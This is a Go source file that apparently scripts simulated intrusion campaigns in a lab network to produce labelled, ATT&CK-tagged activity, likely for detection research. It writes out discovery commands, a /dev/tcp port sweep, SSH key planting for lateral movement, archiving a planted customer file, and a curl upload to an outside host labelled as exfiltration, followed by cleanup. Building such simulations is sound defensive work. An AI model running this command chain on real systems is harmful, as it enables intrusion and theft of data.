package campaign

import (
	"errors"
	"fmt"
	"path"
	"regexp"
	"strings"

	"tyto/lab"
	"tyto/lab/label"
	"tyto/lab/ssh"
	"tyto/lab/sshmore"
	"tyto/lab/typist"
)

// Look around: who and where one is.
func (c *Campaign) Look() {
	all := []typist.Command{
		{Text: "id -un", Want: c.here().user, Technique: "T1033"},
		{Text: "hostname -f; uname -r", Technique: "T1082"},
		{Text: "ip -br addr", Want: c.here().host.Addr().String(), Technique: "T1016"},
		{Text: "ps -eo pid,comm --sort=start_time | tail -5", Technique: "T1057"},
		{Text: "cat /etc/resolv.conf", Want: c.run.Host("dns").Addr().String(), Technique: "T1016"},
	}
	c.run.Rand().Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
	for _, s := range all[:2+c.run.Rand().IntN(3)] {
		c.Do(s.Text, s.Want, s.Technique)
	}
}

// Sweep tries ports of all machines of the network.
func (c *Campaign) Sweep(ports ...int) {
	var list []string
	for _, p := range ports {
		list = append(list, fmt.Sprint(p))
	}
	targets := lab.Service(c.run.Host("app"), "tcp", 0).Or(lab.Service(c.run.Host("db"), "tcp", 0)).Or(lab.Service(c.run.Host("files"), "tcp", 0))
	made := lab.From(c.here().host).And(targets).And(running(`</dev/tcp/`))
	text := fmt.Sprintf(`for h in %s; do for p in %s; do timeout 1 bash -c "</dev/tcp/$h/$p" 2>/dev/null && echo $h:$p; done; done; echo done=$((2*21))`,
		strings.Join([]string{"app", "db", "files"}, " "), strings.Join(list, " "))
	c.run.Label(made, label.Scan)
	c.Make(text, "done=42", "T1046", made, label.StateProbe)
}

// Enable gives machines a server of OpenSSH and lets the user of each log in at
// the next with a key; the first is where the control ends.
func (c *Campaign) Enable(names ...string) error {
	for _, name := range names {
		d, err := sshmore.NewDesk(c.ctx, c.run, c.run.Host(name), ssh.Options{})
		if err != nil {
			return err
		}
		c.places[name] = &place{host: d.Host, user: d.User}
	}
	from := c.places["client"]
	for _, name := range names {
		to := c.places[name]
		if err := c.key(from, to); err != nil {
			return err
		}
		from = to
	}
	return nil
}

// key lets whoever is at one place log in at another.
func (c *Campaign) key(from, to *place) error {
	home := "/root"
	if from.user != "root" {
		home = "/home/" + from.user
	}
	script := `set -e; umask 077; mkdir -p "$0/.ssh"; [ -e "$0/.ssh/next" ] || ssh-keygen -q -t ed25519 -N '' -f "$0/.ssh/next"
printf 'Host *\n StrictHostKeyChecking accept-new\n LogLevel ERROR\n IdentityFile ~/.ssh/next\n IdentityFile ~/.ssh/id_ed25519\n' >"$0/.ssh/config"; chown -R "$1:" "$0/.ssh"; cat "$0/.ssh/next.pub"`
	public, err := from.host.Run(c.ctx, lab.Command{Args: []string{"bash", "-c", script, home, from.user}})
	if err != nil {
		return err
	}
	authorize := `set -e; umask 077; mkdir -p "/home/$0/.ssh"; echo "$1" >>"/home/$0/.ssh/authorized_keys"; chown -R "$0:" "/home/$0/.ssh"`
	_, err = to.host.Run(c.ctx, lab.Command{Args: []string{"bash", "-c", authorize, to.user, strings.TrimSpace(string(public))}})
	return err
}

// Enter logs in at a machine by SSH and stays there.
func (c *Campaign) Enter(name string) {
	to := c.places[name]
	line := fmt.Sprintf("ssh %s@%s", to.user, name)
	sel := lab.From(c.here().host).And(lab.Service(to.host, "tcp", 22)).And(running("^" + line + "$"))
	c.run.Label(sel, label.Shell)
	c.typed = append(c.typed, sel)
	c.Do(line, "", "T1021.004")
	c.where = append(c.where, to)
	c.Do("echo $((6*7)).$(hostname)", "42."+name, "T1082")
}

func running(pattern string) lab.Selector { return lab.Running(regexp.MustCompile(pattern)) }

// secretFile is what is looked for.
const secretFile = "/srv/export/customers.dat"

// Plant puts what is looked for on a machine.
func (c *Campaign) Plant(name string) error {
	return c.run.Host(name).Write(secretFile, c.secret, 0o644)
}

// Collect finds it on the machine where one is, and packs it.
func (c *Campaign) Collect() {
	c.Do("find /srv -type f -size +20k", secretFile, "T1083")
	c.bag = "/tmp/" + []string{"cache.tgz", "logs.tgz", "out.tar.gz", "export.tgz"}[c.run.Rand().IntN(4)]
	c.Do(fmt.Sprintf("tar czf %s -C / %s && stat -c %%s.bytes %s", c.bag, secretFile[1:], c.bag), ".bytes", "T1560.001")
}

// Back leaves the machine, and takes what was packed along.
func (c *Campaign) Back() {
	left := c.here()
	c.where = c.where[:len(c.where)-1]
	c.Do("exit", "", "")
	if c.bag == "" {
		return
	}
	sel := lab.From(c.here().host).And(lab.Service(left.host, "tcp", 22)).And(running("(scp|sftp)$"))
	c.run.Label(sel, label.Download)
	c.Make(fmt.Sprintf("scp -q %s@%s:%s %s && echo copied=$((5*5))", left.user, left.host.Name(), c.bag, c.bag), "copied=25", "T1074.002", sel, label.StateDownload)
}

// Send sends what was packed to the store outside. The intruder's goes where it
// must not.
func (c *Campaign) Send() {
	sel := lab.From(c.here().host).And(lab.Service(c.run.Host("cloud"), "tcp", 443)).And(running("^curl "))
	url := "https://" + c.cloud + "/upload/" + path.Base(c.bag)
	if c.Hostile {
		c.run.Label(sel, label.Upload, label.Exfiltration)
	} else {
		c.run.Label(sel, label.Upload)
	}
	c.steps = append(c.steps, Step{Command: typist.Command{Text: fmt.Sprintf("curl -sS -T %s %s", c.bag, url), Want: `"received"`, Technique: "T1048.002"}, Made: sel, State: label.StateUpload})
}

// Clean removes the archive where one is.
func (c *Campaign) Clean() { c.Do("rm -f "+c.bag+"; ls /tmp | wc -l", "", "T1070.004") }

// Check holds what arrived outside against what was there.
func (c *Campaign) Check() error {
	cloud := c.run.Host("cloud")
	_, err := cloud.Run(c.ctx, lab.Command{Args: []string{"tar", "xzf", path.Base(c.bag)}})
	got, err2 := cloud.Read(secretFile[1:])
	if err = errors.Join(err, err2); err == nil && string(got) != c.secret {
		err = errors.New("what arrived outside is not what was packed")
	}
	return err
}
